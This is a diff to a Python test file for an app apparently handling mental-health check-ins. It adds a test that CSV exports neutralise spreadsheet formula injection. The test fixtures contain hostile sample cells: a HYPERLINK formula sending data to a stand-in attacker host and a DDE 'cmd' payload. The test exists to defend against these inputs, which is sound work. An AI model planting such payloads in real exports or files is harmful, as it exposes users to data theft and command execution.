@@ -128,7 +128,7 @@ def test_import_round_trips_losslessly_into_a_fresh_install(filled: ApiClient, t
         imported = thaw("import", str(exported), env=env)
         assert imported.returncode == 0, imported.stderr
         again = thaw("import", str(exported), env=env)
-        assert again.returncode == 1 and "already exists" in again.stderr
+        assert again.returncode == 2 and "already exists" in again.stderr and "Nothing was changed" in again.stderr
         script = ("import json; from thaw.accounts.models import User; from thaw.exports.document import build; "
                   "print(json.dumps(build(User.objects.get(email='alice@example.org'))))")
         result = thaw("manage", "shell", "--no-imports", "-c", script, env=env)
@@ -218,3 +218,27 @@ def test_exports_carry_the_rule_fields_the_difficulty_and_the_anchor(api_alice: 
     assert restored["auditc"].rules_version == 1 and restored["pcl5"].rules_version == 2
     assert restored["pcl5"].worst_event == "the storm ü" and restored["phq9"].difficulty == 2
     assert restored["pcl5"].findings == by_kind["pcl5"]["findings"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(api_alice: ApiClient, alice) -> None:
+    import csv
+
+    from thaw.exports.formats import spreadsheet_safe
+
+    formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)"]
+    for text in formulas:
+        assert api_alice.post("/api/v1/checkins", checkin_body(note=text)).status_code == 201
+    save_plan(alice, {"reasons": "=cmd|' /C calc'!A0"})
+    archive = zipfile.ZipFile(io.BytesIO(api_alice.get("/api/v1/export", format="csv").content))
+    notes = [row["note"] for row in csv.DictReader(io.StringIO(archive.read("checkins.csv").decode()))]
+    assert sorted(notes) == sorted("'" + t for t in formulas), "the person's words, behind an apostrophe"
+    plan = {row["section"]: row["text"] for row in csv.DictReader(io.StringIO(archive.read("safety_plan.csv").decode()))}
+    assert plan["reasons"] == "'=cmd|' /C calc'!A0"
+    emotions = list(csv.DictReader(io.StringIO(archive.read("emotions.csv").decode())))
+    assert {row["intensity"] for row in emotions} == {"6", "4"}, "numbers are left alone"
+    # Notes are stripped before they are stored; a tab or CR can still lead other cells.
+    assert spreadsheet_safe("\tTAB=1") == "'\tTAB=1" and spreadsheet_safe("\rCR") == "'\rCR"
+    assert spreadsheet_safe("calm - then not") == "calm - then not" and spreadsheet_safe(-3) == -3
+    # The JSON export is the person's data exactly as written.
+    document = json.loads(api_alice.get("/api/v1/export", format="json").content)
+    assert sorted(c["note"] for c in document["checkins"]) == sorted(formulas)
